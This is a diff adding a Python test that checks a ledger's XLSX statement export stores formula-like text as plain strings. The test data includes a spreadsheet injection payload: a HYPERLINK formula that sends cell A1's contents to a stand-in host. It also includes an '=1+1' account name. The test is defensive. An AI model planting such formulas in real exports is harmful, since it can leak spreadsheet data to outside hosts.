@@ -667,3 +667,28 @@ def test_without_dejavu_the_pdf_falls_back_to_latin_1(
     words = document[0].get_textpage().get_text_range()
     document.close()
     assert "?ód? fund, ??" in words and "Movement 1 ?" in words
+
+
+def test_text_in_the_xlsx_stays_text_even_when_it_looks_like_a_formula(session: Session) -> None:
+    formula = '=HYPERLINK("https://example.invalid/?x="&A1,"Open")'
+    account = ledger.open_account(
+        session, SYSTEM, key="f:src", name="=1+1", kind="funding", currency="USD"
+    ).id
+    budget = ledger.open_account(
+        session, SYSTEM, key="f:b", name="Budget", kind="budget", currency="USD"
+    ).id
+    ledger.execute(
+        session, SYSTEM,
+        [NewTransfer("f:1", account, budget, 100, "budget.funding", memo=formula,
+                     effective_date=date(2026, 1, 1))],
+    )  # fmt: skip
+    params = kinds.kind("statement").check(
+        session, AUDITOR, {"account_id": budget, "start": "2026-01-01", "end": "2026-12-31"}
+    )
+    out = io.BytesIO()
+    files.write(session, AUDITOR, params, "xlsx", out, lambda d, t: None)
+    book = load_workbook(io.BytesIO(out.getvalue()))
+    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
+    assert formula in [c.value for c in cells]
+    assert any(c.value.startswith("=1+1") or "=1+1" in c.value for c in cells)
+    assert all(c.data_type == "s" for c in cells)  # none is a formula ("f")
